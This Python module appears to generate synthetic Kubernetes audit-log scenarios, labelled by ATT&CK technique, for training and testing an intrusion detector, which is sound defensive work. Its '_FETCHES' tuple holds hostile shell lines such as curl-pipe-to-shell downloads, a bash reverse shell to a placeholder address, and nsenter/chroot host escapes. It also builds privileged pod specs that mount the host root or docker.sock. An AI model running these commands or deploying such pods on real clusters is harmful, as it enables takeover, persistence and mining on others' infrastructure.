"""Abuse of a Kubernetes cluster: pods that reach their host, shells in pods, workloads planted and deleted, accounts of pods astray."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

from tasks.families.tellings import (
    ANOTHER_USER,
    CLUSTER,
    POD,
    USER,
    Caller,
    Row,
    Telling,
    chain_on_cluster,
    each,
    kube,
    on_cluster,
)
from tasks.scene import EITHER, GRAVE, Family


# ---------------------------------------------------------------- pods
def _pod(
    container: Mapping[str, Any] | None = None, spec: Mapping[str, Any] | None = None, path: str = ""
) -> dict[str, Any]:
    """Write a pod with one container, and a folder of its host where a path is given."""
    parts = {
        **(spec or {}),
        "containers": [{**(container or {}), "image": "{word7}/{word6}:{number6}", "name": "{word6}"}],
    }
    volumes = {"volumes": [{"hostPath": {"path": path}, "name": "{word5}"}]} if path else {}
    return {"spec": {**volumes, **parts}, "kind": "Pod", "apiVersion": "v1"}


def _workload(kind: str, pod: Mapping[str, Any]) -> dict[str, Any]:
    """Write a workload that makes pods."""
    job = {"spec": {"template": {"spec": pod["spec"]}}}
    scheduled = {"schedule": "*/15 * * * *", "jobTemplate": job}
    return {"spec": scheduled, "kind": kind} if kind == "CronJob" else {**job, "kind": kind}


_KINDS = {
    "deployments": "Deployment",
    "daemonsets": "DaemonSet",
    "statefulsets": "StatefulSet",
    "jobs": "Job",
    "cronjobs": "CronJob",
}


def _change(operation: str, pod: Mapping[str, Any], by: Caller = USER, **more: Any) -> Row:
    """Describe a call that makes or changes pods, or what makes them."""
    kind = _KINDS.get(operation.partition(" ")[2])
    return kube(operation, _workload(kind, pod) if kind else pod, by, **more)


def _secured(**context: Any) -> dict[str, Any]:
    """Write what a container may do on its host."""
    return {"securityContext": context}


_HOST_POD = _pod(_secured(privileged=True), {"hostPID": True}, "/")
_HOST_PODS = (
    _HOST_POD,
    _pod(_secured(privileged=True), path="/var/run/docker.sock"),
    _pod(_secured(privileged=True, capabilities={"add": ["SYS_ADMIN"]})),
    _pod(_secured(privileged=True), {"hostNetwork": True, "hostIPC": True}),
)
_HALF_PODS = (
    _pod(_secured(privileged=True)),
    _pod(spec={"hostNetwork": True}),
    _pod(spec={"hostPID": True}),
    _pod(_secured(privileged=False), path="/etc"),
    _pod(_secured(privileged=False), path="/var/lib/kubelet"),
    _pod(_secured(capabilities={"add": ["SYS_PTRACE"]})),
    _pod(_secured(capabilities={"add": ["CAP_SYS_MODULE"]})),
)
_PLAIN_PODS = (
    _pod(_secured(privileged=False), {"hostPID": False}, "/data/{word4}"),
    _pod(_secured(privileged=False), path="/opt/{word4}"),
    _pod(_secured(privileged=False, capabilities={"add": ["NET_BIND_SERVICE"]})),
    _pod(_secured(privileged=False), {"hostNetwork": False, "hostIPC": False}),
    _pod(_secured(capabilities={"drop": ["ALL"]})),
)
_MAKERS = ("create deployments", "patch daemonsets", "create jobs", "update statefulsets", "create cronjobs")

# ---------------------------------------------------------------- shells
_COMMANDS = (["sh"], ["bash", "-i"], ["env"], ["cat", "/etc/{word4}.conf"], ["ps", "aux"])
_DEBUG = {"spec": {"ephemeralContainers": [{"image": "{word7}:{number6}", "name": "{word6}"}]}}


def _shells(by: Caller = USER, calls: tuple[str, ...] = ("create pods/exec", "get pods/exec")) -> list[Row]:
    return [kube(calls[number % 2], {"command": line, "stdin": True}, by) for number, line in enumerate(_COMMANDS)]


# ---------------------------------------------------------------- plants, deletions
_FETCHES = (
    "curl -fsSL https://{domain}/{word4}.sh | sh",
    "wget -qO- http://{address2}/{word4} | bash",
    "echo {token} | base64 -d > /tmp/{word4}",
    "bash -i >& /dev/tcp/{address2}/{number6} 0>&1",
    "nsenter -t 1 -m -u -i -n sh",
    "chroot /host /bin/{word4}",
)
_RUNS = (
    "curl -fsSL https://{domain}/{word4}.sh -o /data/{word4}",
    "wget -q http://{address2}/{word4} -P /data",
    "echo {token} | base64 > /tmp/{word4}",
    "bash -c /opt/{word4}/run --port {number6}",
    "node -t 1 /srv/{word4}.js",
)
_PLANTERS = ("create pods", "create deployments", "create cronjobs", "create daemonsets")


def _run_by(text: str) -> dict[str, Any]:
    """Write a pod whose container runs a line of shell."""
    return _pod({"command": ["sh", "-c"], "args": [text]})


_DELETIONS = (
    "delete deployments",
    "delete statefulsets",
    "delete daemonsets",
    "delete persistentvolumeclaims",
    "delete namespaces",
    "delete persistentvolumes",
    "delete deployments",
)


def _deletions(by: Caller = USER, after: tuple[int, int] = (4, 50), things: tuple[str, ...] = _DELETIONS) -> Telling:
    """Write a run of deletions."""
    return [kube(operation, None, by, name=f"{{word{n}}}", after=after) for n, operation in enumerate(things, 10)]


_SWEEPS = ("deletecollection deployments", "deletecollection persistentvolumeclaims", "deletecollection statefulsets")
_LISTS = ("list namespaces", "list pods", "list deployments", "get deployments", "list services", "list events")


def _sweep(last: str, by: Caller = USER) -> Telling:
    return [*(kube(look, None, by, name="", after=(4, 50)) for look in _LISTS), kube(last, None, by, name="")]


# ---------------------------------------------------------------- accounts of pods
_RIGHTS = {"spec": {"namespace": "{word9}"}, "kind": "SelfSubjectRulesReview"}
_RIGHT = {"spec": {"resourceAttributes": {"verb": "get", "resource": "pods"}}, "kind": "SelfSubjectAccessReview"}
_APART = (10, 300)  # seconds between the steps of an intrusion
_TRIED = (
    "list secrets",
    "list nodes",
    "create pods",
    "get configmaps",
    "list namespaces",
    "create deployments",
    "list clusterroles",
    "delete pods",
)


def _tries(by: Caller = POD, kinds: int = 6, code: str = "403") -> Telling:
    return [
        kube(_TRIED[number % kinds], None, by, source="{ip}", api_error=code, after=(3, 30), name="")
        for number in range(len(_TRIED))
    ]


FAMILIES: tuple[Family, ...] = (
    on_cluster(
        "host_pod",
        "T1611",
        "privilege_escalation",
        ("kube-pod-on-host",),
        confirmed=each(*(_change("create pods", pod) for pod in _HOST_PODS)),
        suspicious=each(
            *(_change("create pods", pod) for pod in _HALF_PODS),
            *(_change(operation, pod) for operation in _MAKERS for pod in (_HOST_POD, _HALF_PODS[1], _HALF_PODS[3])),
        ),
        below=each(
            *(_change("create pods", pod) for pod in _PLAIN_PODS),
            *(_change("create pods", pod, CLUSTER) for pod in (_HOST_POD, *_HALF_PODS[:2])),
            *(_change(operation, pod) for operation in _MAKERS for pod in _PLAIN_PODS[::2]),
        ),
        reaches=EITHER,
    ),
    on_cluster(
        "pod_shell",
        "T1609",
        "execution",
        ("kube-shell-in-pod",),
        suspicious=each(
            *_shells(),
            *_shells(calls=("create pods/attach", "get pods/attach")),
        ),
        below=each(
            *_shells(calls=("create pods/portforward", "get pods/log")),
            *_shells(CLUSTER),
        ),
    ),
    on_cluster(
        "planted_workload",
        "T1053.007",
        "persistence",
        ("kube-workload-planted",),
        suspicious=each(
            *(_change(operation, _run_by(_RUNS[3]), namespace="kube-system") for operation in _PLANTERS),
            *(
                _change(operation, _run_by(text))
                for text in _FETCHES
                for operation in ("create pods", "create cronjobs")
            ),
            *(_change(operation, _run_by(text)) for text in _FETCHES[:3] for operation in _MAKERS[:4]),
        ),
        below=each(
            *(_change(operation, _run_by(_RUNS[3])) for operation in _PLANTERS),
            *(_change(operation, _run_by(text)) for text in _RUNS for operation in ("create pods", "create cronjobs")),
            *(_change(operation, _run_by(text)) for text in _RUNS[:3] for operation in _MAKERS[:4]),
            *(
                _change(operation, _run_by(text), CLUSTER, namespace="kube-system")
                for operation in _PLANTERS
                for text in _FETCHES[:2]
            ),
        ),
    ),
    on_cluster(
        "deleted_events",
        "T1070",
        "defense_evasion",
        ("kube-traces-deleted",),
        suspicious=each(kube("delete events"), kube("deletecollection events", name="")),
        below=each(
            kube("get events"),
            kube("delete events", None, CLUSTER),
            kube("deletecollection pods", name=""),
            kube("list events", name=""),
        ),
    ),
    on_cluster(
        "deleted_workloads",
        "T1485",
        "impact",
        ("kube-workloads-deleted",),
        suspicious=[_deletions(), _deletions(things=_DELETIONS[::-1]), *(_sweep(last) for last in _SWEEPS)],
        below=[
            _deletions(CLUSTER),
            _deletions(after=(240, 330)),
            _deletions(things=("delete pods", "delete replicasets", "delete jobs", "delete configmaps") * 2),
            [*_deletions(things=_DELETIONS[:3]), *_deletions(ANOTHER_USER, things=_DELETIONS[3:6])],
            *(_sweep(last) for last in ("deletecollection pods", "deletecollection jobs")),
        ],
    ),
    on_cluster(
        "strayed_account",
        "T1550.001",
        "lateral_movement",
        ("kube-account-misused",),
        suspicious=each(
            *(
                kube(operation, None, POD, source="{address}")
                for operation in ("list pods", "get services", "list namespaces")
            ),
            kube("create selfsubjectrulesreviews", _RIGHTS, POD, source="{ip}", namespace="", name=""),
        ),
        below=each(
            *(
                kube(operation, None, POD, source="{ip}")
                for operation in ("list pods", "get services", "list namespaces")
            ),
            kube("create selfsubjectrulesreviews", _RIGHTS, CLUSTER, source="{ip}", namespace="", name=""),
            kube("create selfsubjectaccessreviews", _RIGHT, POD, source="{ip}", namespace="", name=""),
        ),
        names_account=False,
        account=POD.identity,
    ),
    on_cluster(
        "trying_account",
        "T1550.001",
        "lateral_movement",
        ("kube-account-misused",),
        suspicious=[_tries()],
        below=[_tries(kinds=3), _tries(CLUSTER), _tries(code="404")],
        names_account=False,
        account=POD.identity,
    ),
    # ------------------------------------------------------------ several steps: for training, for choosing a model, for testing it
    chain_on_cluster(  # ATT&CK T1609, T1485, T1070: a shell in a pod, workloads gone, and the events that tell of it
        "swept_cluster",
        "T1485",
        "impact",
        ("kube-workloads-deleted", "kube-shell-in-pod", "kube-traces-deleted"),
        (
            (
                [kube("create pods/attach", {"command": _COMMANDS[1]}, after=_APART)],
                [kube("create pods/portforward", {"command": _COMMANDS[1]}, after=_APART)],
            ),
            (
                [kube("deletecollection deployments", name="", after=_APART)],
                [kube("deletecollection pods", name="", after=_APART)],
            ),
            (
                [kube("deletecollection events", name="", after=_APART)],
                [kube("list events", name="", after=_APART)],
            ),
        ),
    ),
    chain_on_cluster(  # ATT&CK G0139 (TeamTNT): a shell in a pod, a program for every node, the cluster's events gone
        "mining_cluster",
        "T1053.007",
        "persistence",
        ("kube-workload-planted", "kube-shell-in-pod", "kube-traces-deleted"),
        (
            (
                [kube("create pods/exec", {"command": _COMMANDS[0]}, after=_APART)],
                [kube("get pods/log", {"command": _COMMANDS[0]}, after=_APART)],
            ),
            (
                [_change("create daemonsets", _run_by(_FETCHES[0]), after=_APART)],
                [_change("create daemonsets", _run_by(_RUNS[0]), after=_APART)],
            ),
            ([kube("delete events", after=_APART)], [kube("get events", after=_APART)]),
        ),
        split="val_family",
    ),
    chain_on_cluster(  # ATT&CK S0601 (Hildegard): a pod asks what it may do, starts one that has the host, and plants a job among the system's
        "escaping_pod",
        "T1611",
        "privilege_escalation",
        ("kube-pod-on-host", "kube-account-misused", "kube-workload-planted"),
        (
            (
                [
                    kube(
                        "create selfsubjectrulesreviews",
                        _RIGHTS,
                        POD,
                        source="{ip}",
                        namespace="",
                        name="",
                        after=_APART,
                    )
                ],
                [
                    kube(
                        "create selfsubjectaccessreviews",
                        _RIGHTS,
                        POD,
                        source="{ip}",
                        namespace="",
                        name="",
                        after=_APART,
                    )
                ],
            ),
            (
                [_change("create deployments", _HOST_POD, POD, source="{ip}", after=_APART)],
                [_change("create deployments", _PLAIN_PODS[0], POD, source="{ip}", after=_APART)],
            ),
            (
                [
                    _change(
                        "create cronjobs", _run_by(_RUNS[3]), POD, source="{ip}", namespace="kube-system", after=_APART
                    )
                ],
                [_change("create cronjobs", _run_by(_RUNS[3]), POD, source="{ip}", after=_APART)],
            ),
        ),
        names_account=False,
        account=POD.identity,
        reaches=GRAVE,
        split="test_family",
    ),
    on_cluster(  # ATT&CK T1609: past the pods' own door, by the node or by a container beside
        "side_door",
        "T1609",
        "execution",
        ("kube-shell-in-pod",),
        suspicious=each(
            *(kube(f"{verb} nodes/proxy", _DEBUG, namespace="", name="{host}") for verb in ("create", "get")),
            *(kube(f"{verb} pods/ephemeralcontainers", _DEBUG) for verb in ("update", "patch")),
        ),
        below=each(
            *(kube(f"{verb} nodes", _DEBUG, namespace="", name="{host}") for verb in ("patch", "get")),
            *(kube(f"{verb} pods", _DEBUG) for verb in ("get", "patch")),
            *(kube(f"{verb} pods/ephemeralcontainers", _DEBUG, CLUSTER) for verb in ("update", "patch")),
        ),
        split="test_family",
    ),
)
